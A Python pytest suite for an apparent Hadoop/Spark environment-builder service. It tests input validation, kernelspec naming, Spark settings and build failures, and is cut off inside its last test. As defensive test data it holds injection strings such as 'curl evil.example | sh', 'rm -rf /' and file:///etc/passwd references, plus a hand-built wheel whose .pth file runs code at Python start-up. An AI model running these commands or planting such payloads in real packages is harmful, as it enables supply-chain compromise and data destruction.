"""Environments without the stack: request validation, names, Spark properties both ways (kernelspecs.py),
the records, and the builder's failure paths (HDFS down, a missing interpreter, a failing command)."""
from __future__ import annotations

import asyncio
import os
import sys
import time

import pytest

from yardlab.edge.audit import AuditLog
from yardlab.edge.auth import Identity
from yardlab.edge.clients.webhdfs import WebHDFSUnavailable
from yardlab.edge.environments import EnvironmentService, FieldError, kernel_name_for, redact
from yardlab.edge.environments import service as envmod
from yardlab.edge.environments.builder import BuildError
from yardlab.edge.environments.request import parse_request
from yardlab.edge.errors import PublicError
from yardlab.edge.kernelspecs import (
    KernelSite,
    KernelSpecRequest,
    container_mb,
    read_spark_properties,
    requested_resources,
    spark_properties,
    write_kernelspec,
    yardlab_metadata,
)
from yardlab.edge.ledger import KernelLedger

ALICE = Identity(name="alice", admin=False, groups=("analysts",))
ADMIN = Identity(name="admin", admin=True)


class _Snapshot:
    cluster = {"queues": [{"name": "default", "path": "root.default", "leaf": True},
                          {"name": "interactive", "path": "root.interactive", "leaf": True},
                          {"name": "root", "path": "root", "leaf": False}]}


@pytest.fixture
def svc(tmp_path):
    ledger = KernelLedger(db_url=f"sqlite:///{tmp_path / 'db.sqlite'}")
    return EnvironmentService(ledger, storage=None, snapshot=_Snapshot(), audit=None, kernels_dir=str(tmp_path / "k"),
                              builds_dir=str(tmp_path / "b"), conda_channels=["file:///srv/conda/local"])


def body(**over):
    base = {"name": "tab", "kind": "pyspark", "packages": {"pip": ["tabulate==0.9.0"]}}
    base.update(over)
    return base


def parsed(svc, who, b) -> dict:
    """``b`` checked against the rules ``svc``'s settings make (as create() checks a POST body)."""
    return parse_request(who, b, svc.rules())


def refused(svc, who, b) -> FieldError:
    with pytest.raises(FieldError) as info:
        parsed(svc, who, b)
    return info.value


def test_a_good_request_is_normalised_with_site_defaults(svc):
    req = parsed(svc, ALICE, body(resources={"executor_memory_mb": 2048, "queue": "interactive"}))
    assert req["packages"] == {"pip": ["tabulate==0.9.0"], "conda": [], "maven": []}
    assert req["resources"]["executor_memory_mb"] == 2048
    assert req["resources"]["driver_memory_mb"] == svc.defaults["driver_memory_mb"]
    assert req["resources"]["queue"] == "interactive"
    assert req["visibility"] == "personal" and req["display_name"] == "tab"


@pytest.mark.parametrize("name", ["Tab", "1tab", "tab_x", "../x", "a" * 41, "", "tab/../../etc", None, 7, "tab\n",
                                  "tab.x"])
def test_bad_names_are_refused(svc, name):
    err = refused(svc, ALICE, body(name=name))
    assert err.status == 400 and err.field == "name"


@pytest.mark.parametrize("spec,words", [
    ("-r /etc/passwd", "options"),
    ("--index-url=http://evil.example/simple", "options"),
    ("-e git+https://github.com/x/y", "options"),
    ("-c constraints.txt", "options"),
    ("https://evil.example/pkg.whl", "URLs"),
    ("git+https://github.com/x/y", "URLs"),
    ("./local/pkg", "URLs"),
    ("/tmp/pkg.whl", "URLs"),
    ("pkg @ https://evil.example/pkg.whl", "URLs"),
    ("pkg @ file:///etc/passwd", "URLs"),
    ("tabulate; rm -rf /", "PEP 508"),
    ("tabulate && curl evil.example | sh", "PEP 508"),
    ("tabulate $(id)", "PEP 508"),
    ("tabulate\n--index-url http://evil.example", "control character"),
    ("x" * 300, "longer than"),
    ("foo.tar.gz", "local paths"),
    ("x-1.0-py3-none-any.whl", "local paths"),
])
def test_pip_injection_and_non_index_sources_are_refused(svc, spec, words):
    err = refused(svc, ALICE, body(packages={"pip": [spec]}))
    assert err.status == 400 and err.field == "packages.pip[0]"
    assert words in err.message


def test_pip_duplicates_and_too_many_are_refused(svc):
    assert "twice" in refused(svc, ALICE, body(packages={"pip": ["Tabulate", "tabulate==0.9"]})).message
    err = refused(svc, ALICE, body(packages={"pip": [f"p{i}" for i in range(svc.max_packages + 1)]}))
    assert err.field == "packages.pip"


@pytest.mark.parametrize("spec,words", [
    ("conda-forge::numpy", "not one of this site's channels"),
    ("local::numpy", "not one of this site's channels"),  # a short name means anaconda.org/local
    ("numpy[channel=conda-forge]", "not one of this site's channels"),
    ("https://evil.example/channel::numpy", "not one of this site's channels"),
    ("/tmp/evil.tar.bz2", "URLs and local paths"),
    ("numpy; rm -rf /", "not a conda match spec"),
    ("--override-channels", "not a conda match spec"),
])
def test_conda_specs_from_other_channels_or_paths_are_refused(svc, spec, words):
    err = refused(svc, ALICE, body(packages={"conda": [spec]}))
    assert err.field == "packages.conda[0]" and words in err.message


def test_conda_specs_of_the_configured_channel_pass(svc):
    specs = ["file:///srv/conda/local::yardlab-hello>=1", "zlib 1.3.*"]
    assert parsed(svc, ALICE, body(packages={"conda": specs}))["packages"]["conda"] == specs


def test_conda_is_refused_when_no_channel_is_configured(svc):
    svc.conda_channels = []
    assert "no conda channels" in refused(svc, ALICE, body(packages={"conda": ["zlib"]})).message


@pytest.mark.parametrize("resources,field", [
    ({"executor_memory_mb": 999999}, "resources.executor_memory_mb"),
    ({"executor_memory_mb": 100}, "resources.executor_memory_mb"),
    ({"driver_cores": 0}, "resources.driver_cores"),
    ({"executor_instances": "2"}, "resources.executor_instances"),
    ({"executor_instances": True}, "resources.executor_instances"),
    ({"dynamic_allocation": {"min": 3, "max": 1}}, "resources.dynamic_allocation"),
    ({"dynamic_allocation": {"min": 0, "max": 99}}, "resources.dynamic_allocation"),
    ({"queue": "nope"}, "resources.queue"),
    ({"queue": "default; rm -rf /"}, "resources.queue"),
    ({"queue": "default\n"}, "resources.queue"),
    ({"gpus": 4}, "resources.gpus"),
])
def test_resources_outside_the_site_limits_are_refused(svc, resources, field):
    err = refused(svc, ALICE, body(resources=resources))
    assert err.field == field and err.status == 400


def test_queues_are_limited_per_group(svc):
    svc.allowed_queues = {"*": ["default"], "analysts": ["interactive"]}
    assert parsed(svc, ALICE, body(resources={"queue": "interactive"}))["resources"]["queue"] == "interactive"
    bob = Identity(name="bob", admin=False)
    err = refused(svc, bob, body(resources={"queue": "interactive"}))
    assert err.status == 403 and err.field == "resources.queue"


def test_only_admins_share(svc):
    err = refused(svc, ALICE, body(visibility="shared"))
    assert err.status == 403 and err.field == "visibility"
    assert parsed(svc, ADMIN, body(visibility="shared"))["visibility"] == "shared"


def test_unknown_fields_and_non_objects_are_refused(svc):
    assert refused(svc, ALICE, body(owner="bob")).field == "owner"
    assert refused(svc, ALICE, ["tab"]).field is None
    assert refused(svc, ALICE, body(packages={"npm": ["x"]})).field == "packages"
    assert refused(svc, ALICE, body(display_name="x\u0000y")).field == "display_name"
    assert refused(svc, ALICE, body(display_name="x\ud800y")).field == "display_name"


def test_limits_an_operator_sets_in_part_keep_the_other_defaults(svc):
    svc.limits = {"executor_memory_mb": 2048}
    assert parsed(svc, ALICE, body(resources={"driver_memory_mb": 4096}))["resources"]["driver_memory_mb"] == 4096
    assert refused(svc, ALICE, body(resources={"executor_memory_mb": 4096})).field == "resources.executor_memory_mb"


def test_credentials_in_urls_are_never_shown():
    assert redact("--index-url https://bob:s3cret@pypi.corp/simple") == "--index-url https://***@pypi.corp/simple"
    assert redact("https://conda.corp/t/abc123/chan") == "https://conda.corp/t/***/chan"
    assert redact("https://pypi.org/simple") == "https://pypi.org/simple"


def test_spark_settings_carry_resources_queue_and_archive(svc):
    env = {"kind": "pyspark", "archive": "ab" * 32,
           "resources": {"driver_memory_mb": 1024, "driver_cores": 1, "executor_memory_mb": 2048,
                         "executor_cores": 2, "executor_instances": 3, "dynamic_allocation": None,
                         "queue": "interactive"}}
    conf = spark_properties(env["kind"], env["resources"], svc.builder.archive_uri(env["archive"]))
    assert conf["spark.yarn.queue"] == "interactive"
    assert conf["spark.executor.memory"] == "2048m" and conf["spark.executor.instances"] == "3"
    assert conf["spark.yarn.dist.archives"] == f"hdfs:///yardlab/envs/{'ab' * 32}.tar.gz#env"
    assert conf["spark.executorEnv.PYSPARK_PYTHON"] == "./env/bin/python"
    env["resources"]["dynamic_allocation"] = {"min": 0, "max": 4}
    conf = spark_properties(env["kind"], env["resources"])
    assert "spark.executor.instances" not in conf and "spark.yarn.dist.archives" not in conf and conf["spark.dynamicAllocation.maxExecutors"] == "4"
    env["kind"] = "python"
    assert "spark.executor.memory" not in spark_properties(env["kind"], env["resources"])


# -- Maven coordinates (JVM packages) ------------------------------------------------------------------------
@pytest.mark.parametrize("spec,words", [
    ("https://repo.example/evil.jar", "URLs and local paths"),
    ("file:///etc/passwd", "URLs and local paths"),
    ("/tmp/evil.jar", "URLs and local paths"),
    ("../evil:x:1", "URLs and local paths"),
    ("~/evil.jar", "URLs and local paths"),
    ("org.example:lib:[1.0,2.0)", "version ranges"),
    ("org.example:lib:(,1.0]", "version ranges"),
    ("org.example:lib:1.+", "version ranges"),
    ("org.example:lib:LATEST", "not one release"),
    ("org.example:lib:release", "not one release"),
    ("org.example:lib:1.0-SNAPSHOT", "not one release"),
    ("-Dmaven.repo.local=/etc", "options are not allowed"),
    ("--settings=/tmp/s.xml", "options are not allowed"),
    ("org.example:lib:1.0 -X", "space"),
    ("org.example:lib:1.0\n<x>", "space"),
    ("org.example:lib", "not a Maven coordinate"),
    ("org.example:lib:jar:1.0", "not a Maven coordinate"),
    ("org.example:lib:1.0;rm", "not a Maven coordinate"),
    ("org.example:<lib>:1.0", "not a Maven coordinate"),
    ("a" * 300 + ":b:1", "longer than"),
])
def test_maven_coordinates_that_are_not_one_exact_artifact_are_refused(svc, spec, words):
    err = refused(svc, ALICE, body(packages={"maven": [spec]}))
    assert err.field == "packages.maven[0]" and words in str(err), str(err)
    assert err.status == 400


def test_maven_lists_are_checked_as_a_whole(svc):
    ok = parsed(svc, ALICE, body(packages={"maven": ["org.apache.commons:commons-csv:1.12.0",
                                                      "org.apache.spark:spark-sql-kafka-0-10_2.13:4.0.1"]}))
    assert ok["packages"]["maven"] == ["org.apache.commons:commons-csv:1.12.0",
                                       "org.apache.spark:spark-sql-kafka-0-10_2.13:4.0.1"]
    err = refused(svc, ALICE, body(packages={"maven": ["a.b:c:1", "a.b:c:2"]}))
    assert err.field == "packages.maven[1]" and "twice" in str(err)
    assert refused(svc, ALICE, body(packages={"maven": [f"g:a{i}:1" for i in range(51)]})).field == "packages.maven"
    assert refused(svc, ALICE, body(packages={"maven": "g:a:1"})).field == "packages.maven"
    assert refused(svc, ALICE, body(packages={"maven": [7]})).field == "packages.maven[0]"
    assert refused(svc, ALICE, body(packages={"jars": ["g:a:1"]})).field == "packages"


def test_the_maven_pom_names_only_the_sites_repositories_and_the_jars_spark_has_are_left_out(tmp_path):
    from yardlab.edge.environments import maven

    pom = maven.pom_xml(["org.apache.commons:commons-csv:1.12.0"], ["https://repo.corp/maven", "https://b.corp/m2"])
    assert "<id>central</id><url>https://repo.corp/maven</url>" in pom  # replaces Maven Central
    site = maven.SITE_ID  # a POM naming a repository "site-1" of its own cannot take the site's second one's place
    assert len(site) >= 20 and "site-1" not in pom
    assert f"<id>{site}-1</id><url>https://b.corp/m2</url>" in pom and "repo.maven.apache.org" not in pom
    assert "<artifactId>commons-csv</artifactId><version>1.12.0</version>" in pom
    out = tmp_path / "jars"
    for rel in ("org/apache/commons/commons-csv/1.12.0/commons-csv-1.12.0.jar",
                "commons-io/commons-io/2.16.1/commons-io-2.16.1.jar",
                "org/scala-lang/scala-library/2.13.16/scala-library-2.13.16.jar",
                "org/apache/hadoop/hadoop-common/3.4.1/hadoop-common-3.4.1.jar",
                "org/apache/kafka/kafka-clients/3.9.1/kafka-clients-3.9.1.jar"):
        (out / rel).parent.mkdir(parents=True, exist_ok=True)
        (out / rel).write_bytes(rel.encode())
    spark = ["commons-io-2.18.0.jar", "commons-io-extra-1.0.jar", "spark-sql_2.13-4.0.1.jar"]
    kept, left = maven.collect(out, spark, ["org.scala-lang", "org.apache.hadoop"])
    assert [j.coordinate for j in kept] == ["org.apache.commons:commons-csv:1.12.0",
                                            "org.apache.kafka:kafka-clients:3.9.1"]
    assert sorted(left) == ["commons-io:commons-io:2.16.1", "org.apache.hadoop:hadoop-common:3.4.1",
                            "org.scala-lang:scala-library:2.13.16"]
    assert kept[0].sha256 == __import__("hashlib").sha256(
        b"org/apache/commons/commons-csv/1.12.0/commons-csv-1.12.0.jar").hexdigest()
    assert not maven.provided_by_spark("org.example", "spark-sql", spark, [])  # spark-sql_2.13 is another name
    settings = maven.settings_xml(["https://repo.corp/maven", "https://b.corp/m2"])
    assert f"<mirrorOf>*,!{site}-1</mirrorOf><url>https://repo.corp/maven</url>" in settings
    argv = maven.mvn_argv("mvn", tmp_path / "pom.xml", tmp_path / "settings.xml", tmp_path / "m2", out)
    assert "-Dmdep.useRepositoryLayout=true" in argv and "-DincludeScope=runtime" in argv


def test_jars_go_on_the_class_path_through_spark_yarn_dist_jars(svc):
    res = {"driver_memory_mb": 1024, "driver_cores": 1, "executor_memory_mb": 1024, "executor_cores": 1,
           "executor_instances": 1, "dynamic_allocation": None, "queue": "default"}
    uris = [svc.builder.jar_uri("cd" * 32), svc.builder.jar_uri("ef" * 32)]
    assert uris[0] == f"hdfs:///yardlab/envs/jars/{'cd' * 32}.jar"
    for kind in ("pyspark", "python"):
        conf = spark_properties(kind, res, None, uris)
        assert conf["spark.yarn.dist.jars"] == ",".join(uris) and "spark.jars" not in conf
    assert "spark.yarn.dist.jars" not in spark_properties("pyspark", res, None, [])


def test_kernel_names_are_readable_and_unique():
    assert kernel_name_for("alice", "tab") == "yl-alice.tab"
    # '-' may stand in owner and environment names: the separator must not
    assert kernel_name_for("data", "team-etl") != kernel_name_for("data-team", "etl")
    assert kernel_name_for("a.b@x", "tab") != kernel_name_for("a-b-x", "tab")
    assert kernel_name_for("A", "tab") != kernel_name_for("a", "tab")
    cleaned = kernel_name_for("a.b", "tab")  # yl-a-b.<hash>.tab: no clean owner name holds a '.'
    safe_owner = cleaned[3:].rsplit(".", 1)[0]
    assert kernel_name_for(safe_owner.replace(".", "-"), "tab") != cleaned


def _service_with_audit(tmp_path, **kw):
    ledger = KernelLedger(db_url=f"sqlite:///{tmp_path / 'db2.sqlite'}")
    return EnvironmentService(ledger, storage=None, snapshot=_Snapshot(), audit=AuditLog(path=str(tmp_path / "a.jsonl")),
                              kernels_dir=str(tmp_path / "k"), builds_dir=str(tmp_path / "b"),
                              conda_channels=["file:///srv/conda/local"],
                              kernel_site={"spark_home": "/s", "java_home": "/j", "hadoop_conf_dir": "/h",
                                           "yarn_endpoint": "http://127.0.0.1:8088", "launchers_dir": "/l",
                                           "python": "/p"}, **kw)


def test_parallel_creates_cannot_pass_the_per_user_cap(tmp_path):
    svc = _service_with_audit(tmp_path, max_environments_per_user=3)

    async def many():
        return await asyncio.gather(*(svc.create(ALICE, body(name=f"e{i}")) for i in range(10)),
                                    return_exceptions=True)

    results = asyncio.run(many())
    made = [r for r in results if isinstance(r, dict)]
    refused_ = [r for r in results if isinstance(r, PublicError)]
    assert len(made) == 3 and len(refused_) == 7 and all(e.status == 429 for e in refused_)
    assert svc.builder.queue.qsize() == 3  # and only those three are queued to build


def test_a_kernelspec_name_collision_is_refused_not_shared(tmp_path, monkeypatch):
    svc = _service_with_audit(tmp_path)
    # the worst case: two different environments mapped to one kernelspec name
    monkeypatch.setattr(envmod, "kernel_name_for", lambda owner, name: "yl-same")
    asyncio.run(svc.create(ALICE, body(name="one")))
    with pytest.raises(FieldError) as err:
        asyncio.run(svc.create(Identity(name="bob", admin=False), body(name="two")))
    assert err.value.status == 409 and err.value.field == "name"
    assert svc.store.get("bob", "two") is None


# -- Spark properties both ways (kernelspecs.py): an environment's resources -> spark-submit -> YARN sizes --
def _site(tmp_path):
    launchers = tmp_path / "launchers"
    for sub in ("python/scripts/launch_ipykernel.py", "shared/scripts/server_listener.py"):
        (launchers / sub).parent.mkdir(parents=True, exist_ok=True)
        (launchers / sub).write_text("# stand-in\n")
    return KernelSite(spark_home="/s", java_home="/j", hadoop_conf_dir="/h", yarn_endpoint="http://127.0.0.1:8088",
                      launchers_dir=str(launchers), python="/p")


def _written(tmp_path, kind, resources, name="yl-alice.tab"):
    write_kernelspec(tmp_path / "k", _site(tmp_path), KernelSpecRequest(
        name=name, display_name="t", kind=kind, spark_conf=spark_properties(kind, resources, "hdfs:///e/x.tar.gz")))
    return read_spark_properties(tmp_path / "k", name)


RESOURCES = {"driver_memory_mb": 1024, "driver_cores": 1, "executor_memory_mb": 2048, "executor_cores": 2,
             "executor_instances": 3, "dynamic_allocation": None, "queue": "interactive"}


def test_an_environments_resources_come_back_as_the_yarn_containers_it_asks_for(tmp_path):
    props = _written(tmp_path, "pyspark", RESOURCES)
    assert props["spark.yarn.dist.archives"] == "hdfs:///e/x.tar.gz#env"
    need = requested_resources(props, {}, 256)
    # driver 1024 + 384 overhead; executors 2048 + 384 rounded up to 256 MB steps
    assert need == {"queue": "interactive", "driverMB": 1536, "executorMB": 2560, "executors": 3,
                    "needMB": 1536 + 3 * 2560, "needVCores": 1 + 3 * 2, "largestMB": 2560}
    dynamic = _written(tmp_path, "pyspark", {**RESOURCES, "dynamic_allocation": {"min": 1, "max": 4}})
    assert requested_resources(dynamic, {}, 256)["executors"] == 1  # what it starts with, not its ceiling
    python = requested_resources(_written(tmp_path, "python", RESOURCES), {}, 256)
    assert python["executors"] == 0 and python["needMB"] == python["largestMB"] == 1536


def test_spark_memory_strings_and_missing_properties():
    need = requested_resources({"spark.driver.memory": "2g", "spark.executor.memory": "512m",
                                "spark.executor.memoryOverhead": "1g", "spark.executor.instances": "1"},
                               {"queue": "from-metadata"}, 512)
    assert need["queue"] == "from-metadata" and need["driverMB"] == 2560 and need["executorMB"] == 1536
    assert container_mb(1024, "1048576k", 512) == 2048
    assert requested_resources({}, {}, 256)["executors"] == 2  # Spark's default for a spec without properties


def test_spark_properties_are_read_only_from_a_kernelspec_folder(tmp_path):
    _written(tmp_path, "pyspark", RESOURCES)
    assert read_spark_properties(tmp_path / "k", "yl-alice.tab")["spark.yarn.queue"] == "interactive"
    for name in ("missing", "", "../k/yl-alice.tab", ".hidden"):
        assert read_spark_properties(tmp_path / "k", name) == {}
    assert read_spark_properties(None, "yl-alice.tab") == {}
    assert yardlab_metadata({"spec": {"metadata": {"yardlab": {"queue": "q"}}}}) == {"queue": "q"}
    assert yardlab_metadata({"spec": {"metadata": {"yardlab": "not a dict"}}}) == {}


# -- the builder: HDFS faults, the interpreter probe, a failing build (no network, no HDFS) ------------------
class _DownWebHDFS:
    """WebHDFS that never answers (fault injection: the real one cannot be made to fail on demand)."""

    error = WebHDFSUnavailable("http://namenode:9870", "connection refused")

    def __getattr__(self, op):
        async def call(*args, **kwargs):
            raise self.error
        return call


class _DownStorage:
    webhdfs = _DownWebHDFS()


def _builder_service(tmp_path, **kw):
    ledger = KernelLedger(db_url=f"sqlite:///{tmp_path / 'db3.sqlite'}")
    site = _site(tmp_path)
    return EnvironmentService(ledger, storage=_DownStorage(), snapshot=_Snapshot(),
                              audit=AuditLog(path=str(tmp_path / "a.jsonl")), kernels_dir=str(tmp_path / "k"),
                              builds_dir=str(tmp_path / "b"), kernel_site=site.__dict__, **kw)


def test_hdfs_faults_become_build_errors(tmp_path):
    builder = _builder_service(tmp_path).builder

    async def scenario():
        await builder._remove_hdfs_temporaries()  # HDFS down at a start: nothing to clean, no error
        await builder.remove_archive_if_unused("ab" * 32, "alice/tab")  # logged, not raised
        with pytest.raises(BuildError) as err:
            await builder.archive_exists("ab" * 32)
        return err.value

    assert str(asyncio.run(scenario())) == _DownWebHDFS.error.message  # the client's words, once


def test_the_base_interpreter_is_probed_without_blocking(tmp_path):
    svc = _builder_service(tmp_path)
    version = asyncio.run(svc.builder._base_python())
    assert version.split()[0] == ".".join(map(str, sys.version_info[:3]))
    svc = _builder_service(tmp_path, python=str(tmp_path / "no-python"))
    with pytest.raises(BuildError, match="cannot be run"):
        asyncio.run(svc.builder._base_python())


def test_a_failing_build_leaves_no_work_folder_and_no_kernel(tmp_path):
    svc = _builder_service(tmp_path, uv="false")  # every uv command fails

    async def scenario():
        await svc.start()
        await svc.create(ALICE, body())
        for _ in range(200):
            rec = svc.store.get("alice", "tab")
            if rec["status"] == "failed":
                break
            await asyncio.sleep(0.05)
        await svc.stop()
        return rec

    rec = asyncio.run(scenario())
    assert rec["status"] == "failed" and rec["error"] == "resolving the pip requirements failed (exit 1)"
    assert list((tmp_path / "b" / "work").iterdir()) == []
    assert not (tmp_path / "k" / kernel_name_for("alice", "tab")).exists()
    assert "FAILED: resolving the pip requirements failed" in svc.store.log_path(("alice", "tab")).read_text()


FAKE_MVN = """#!/bin/sh
echo "start $$" >> {log}
sleep 0.4
echo "end $$" >> {log}
"""


def test_maven_runs_take_turns_on_the_shared_local_repository(tmp_path):
    """Two builds resolving JVM packages at once: their Maven runs share cache/m2, so the second waits
    (and says so in its log) until the first has ended."""
    log = tmp_path / "mvn.log"
    mvn = tmp_path / "mvn"
    mvn.write_text(FAKE_MVN.format(log=log))
    mvn.chmod(0o755)
    svc = _builder_service(tmp_path, mvn=str(mvn), maven_repositories=["https://repo.corp/maven"])
    keys = [("alice", "one"), ("bob", "two")]

    async def scenario():
        works = [tmp_path / "w1", tmp_path / "w2"]
        for w in works:
            w.mkdir()
        await asyncio.gather(*(svc.builder._resolve_maven(k, ["g.h:a:1"], w) for k, w in zip(keys, works)))

    asyncio.run(scenario())
    events = [line.split()[0] for line in log.read_text().splitlines()]
    assert events == ["start", "end", "start", "end"], events  # never two at once
    logs = [svc.store.log_path(k).read_text() for k in keys]
    assert sum("waiting for another build's Maven run" in text for text in logs) == 1, logs


FAKE_UV = """#!{python}
import os, subprocess, sys
args = sys.argv[1:]
if args[0] == "venv":
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", args[-1]], check=True)
else:  # pip sync: {mb} MB of packages
    prefix = os.path.dirname(os.path.dirname(args[args.index("--python") + 1]))
    with open(os.path.join(prefix, "big.bin"), "wb") as f:
        f.write(bytes({mb} * 2**20))
"""


@pytest.mark.parametrize("installed_mb, fails", [(3, True), (1, False)])
def test_an_environment_over_the_sites_size_limit_fails_before_it_is_packed(tmp_path, installed_mb, fails):
    uv = tmp_path / "uv"
    uv.write_text(FAKE_UV.format(python=sys.executable, mb=installed_mb))
    uv.chmod(0o755)
    svc = _builder_service(tmp_path, uv=str(uv), max_environment_mb=2, compress_level=0)
    work = tmp_path / "work"
    work.mkdir()
    run = svc.builder._install_and_pack(("alice", "huge"), [], work)
    if not fails:
        assert asyncio.run(run).stat().st_size > 2**20
        return
    with pytest.raises(BuildError) as err:
        asyncio.run(run)
    assert str(err.value) == ("the environment takes 3 MB installed, more than this site allows (2 MB, "
                              "EnvironmentService.max_environment_mb): ask for fewer or smaller packages")
    assert not list(work.glob("env.tar*"))  # nothing packed


def test_tree_bytes_counts_hard_links_once_and_symlinks_as_links(tmp_path):
    from yardlab.edge.environments.builder import tree_bytes

    (tmp_path / "a").write_bytes(bytes(1000))
    os.link(tmp_path / "a", tmp_path / "b")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "c").write_bytes(bytes(24))
    os.symlink(tmp_path / "a", tmp_path / "sub" / "link")
    assert tree_bytes(tmp_path) == 1000 + 24 + os.lstat(tmp_path / "sub" / "link").st_size


def _wheel_with_a_pth(folder, marker) -> str:
    """A wheel (made by hand: a zip with its metadata) whose .pth file would write ``marker`` when a Python
    starts with it in site-packages: what a hostile package on the index can carry with no setup.py."""
    import base64
    import hashlib
    import zipfile

    files = {"pthprobe/__init__.py": "VALUE = 42\n",
             "pthprobe.pth": f"import os; open({str(marker)!r}, 'w').write(str(os.getuid()))\n",
             "pthprobe-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: pthprobe\nVersion: 1.0\n",
             "pthprobe-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\n"
                                             "Tag: py3-none-any\n"}
    record = []
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{name},sha256={digest},{len(text.encode())}")
    record.append("pthprobe-1.0.dist-info/RECORD,,")
    path = folder / "pthprobe-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as z:
        for name, text in {**files, "pthprobe-1.0.dist-info/RECORD": "\n".join(record) + "\n"}.items():
            z.writestr(name, text)
    return str(path)


def test_no_code_of_an_installed_package_runs_in_the_build_and_its_modules_are_compiled(tmp_path):
    """A .pth file runs its code whenever a Python starts with its site-packages; the builder runs as the
    edge's account (it holds the keytab), so the environment's Python never starts so during a build
    (uv's own --compile-bytecode did: the marker was written)."""
    marker = tmp_path / "ran-as-the-edge"
    work = tmp_path / "work"
    work.mkdir()
    (work / "lock.txt").write_text(_wheel_with_a_pth(tmp_path, marker) + "\n")
    svc = _builder_service(tmp_path, python=sys.executable, compress_level=0)
    archive = asyncio.run(svc.builder._install_and_pack(("alice", "probe"), [], work))
    assert not marker.exists(), "the package's .pth file ran during the build"
    site = next((work / "env" / "lib").glob("python3*/site-packages"))
    assert (site / "pthprobe.pth").exists()  # installed (it runs in the user's own kernel, as the user)
    assert list((site / "pthprobe" / "__pycache__").glob("__init__.cpython-*.pyc"))
    assert archive.stat().st_size > 0
    log = svc.store.log_path(("alice", "probe")).read_text()
    assert "compiled to bytecode" in log and "--compile-bytecode" not in log


# -- the base set: in every environment, and the built-in kernelspecs on the base environment's archive ----
def test_every_environment_gets_the_base_set_by_name_and_its_own_pins_win(svc):
    env = {"packages": {"pip": ["Pandas==2.2.3", "tabulate==0.9.0"], "conda": []}}
    assert svc.builder._base_for(env) == ["numpy", "pyarrow", "matplotlib", "hdfs"]
    assert svc.builder._base_for({"packages": {"pip": [], "conda": []}}) == list(svc.base_packages)
    # wheels only, but for the pure-Python packages of the base that PyPI has no wheel of
    assert svc.builder._build_flags() == ["--only-binary", ":all:", "--no-binary", "hdfs,docopt"]
    svc.build_from_source = []
    assert svc.builder._build_flags() == ["--no-build"]


def test_the_base_environment_is_rebuilt_but_never_changed_or_deleted(tmp_path):
    svc = _builder_service(tmp_path)
    yardlab = Identity(name="yardlab", admin=True)

    async def scenario():
        await svc.create(yardlab, {"name": "base", "visibility": "shared"})
        for call in (lambda: svc.update(ADMIN, "yardlab", "base", {"display_name": "x"}),
                     lambda: svc.delete(ADMIN, "yardlab", "base")):
            with pytest.raises(PublicError) as err:
                await call()
            assert err.value.status == 409 and "built-in kernels" in err.value.message
        svc.store.update(("yardlab", "base"), status="ready")
        return (await svc.rebuild(ADMIN, "yardlab", "base"))["status"]

    assert asyncio.run(scenario()) == "queued"
    assert svc.show(ALICE, "yardlab", "base")["can_edit"] is False


def test_the_base_archive_goes_into_the_built_in_kernelspecs_and_is_kept(tmp_path):
    svc = _builder_service(tmp_path)
    env = {"owner": "yardlab", "name": "base", "archive": "cd" * 32, "kind": "pyspark", "visibility": "shared"}

    async def scenario():
        name = await svc.builder.write_kernelspec(env)
        await svc.builder.remove_archive_if_unused("cd" * 32, "alice/empty")  # returns before asking HDFS
        return name

    assert asyncio.run(scenario()) == "yardlab_pyspark"
    for name in ("yardlab_pyspark", "yardlab_python"):
        props = read_spark_properties(tmp_path / "k", name)
        assert props["spark.yarn.dist.archives"] == f"hdfs:///yardlab/envs/{'cd' * 32}.tar.gz#env"
        assert props["spark.executorEnv.PYSPARK_PYTHON"] == props["spark.yarn.appMasterEnv.PYSPARK_PYTHON"] == \
            "./env/bin/python"
    assert read_spark_properties(tmp_path / "k", "yardlab_python")["spark.dynamicAllocation.minExecutors"] == "0"
    assert "spark.yarn.dist.archives" not in read_spark_properties(tmp_path / "k", "yardlab_r")  # Python's base
    assert svc.builder.base_archive == "cd" * 32


def test_a_personal_environment_holding_the_bases_key_is_not_the_base(svc):
    """Only the shared base puts everyone's built-in kernels on its archive: a personal environment whose
    owner is named like the predefined owner (a hub user the edge failed to refuse) is an ordinary one."""
    key = {"owner": svc.predefined_owner, "name": svc.base_environment}
    assert svc.is_base({**key, "visibility": "shared"})
    assert not svc.is_base({**key, "visibility": "personal"})
    assert not svc.is_base({"owner": "alice", "name": svc.base_environment, "visibility": "shared"})


@pytest.mark.parametrize("kind", ["pyspark", "python", "r"])
def test_every_kernels_spark_network_asks_for_the_applications_secret(tmp_path, kind):
    """Drivers and executors answer only peers holding the application's secret (YARN gives it to the
    application's containers alone), encrypted: another user who finds a driver's port gets nothing."""
    props = _written(tmp_path, kind, RESOURCES)
    assert props["spark.authenticate"] == "true" and props["spark.network.crypto.enabled"] == "true"


def test_the_build_queue_takes_owners_in_turn():
    """One user's flood of builds delays that user alone: the next free worker takes the next owner's
    oldest build, each owner's own in the order they asked."""
    import asyncio

    from yardlab.edge.environments.builder import FairQueue

    async def order() -> list:
        q = FairQueue()
        for i in range(5):
            q.put_nowait(("mallory", f"m{i}"))
        q.put_nowait(("alice", "a0"))
        q.put_nowait(("bob", "b0"))
        q.put_nowait(("alice", "a1"))
        assert q.qsize() == 8
        return [(await q.get())[1] for _ in range(8)]

    assert asyncio.run(order()) == ["m0", "a0", "b0", "m1", "a1", "m2", "m3", "m4"]


def test_a_worker_waiting_on_an_empty_build_queue_wakes_for_the_next_build():
    import asyncio

    from yardlab.edge.environments.builder import FairQueue

    async def run() -> tuple:
        q = FairQueue()
        waiting = [asyncio.create_task(q.get()) for _ in range(2)]
        await asyncio.sleep(0)
        q.put_nowait(("alice", "a0"))
        done, pending = await asyncio.wait(waiting, timeout=1)
        q.put_nowait(("bob", "b0"))
        rest, _ = await asyncio.wait(pending, timeout=1)
        return [t.result() for t in done], [t.result() for t in rest]

    first, second = asyncio.run(run())
    assert first == [("alice", "a0")] and second == [("bob", "b0")]


def test_writing_a_kernelspec_again_unchanged_leaves_it_untouched(tmp_path):
    """An edge restart writes the built-in kernelspecs again: unchanged, they keep their files and times,
    so warm kernels started on them are not taken for outdated; a change replaces them."""
    import os

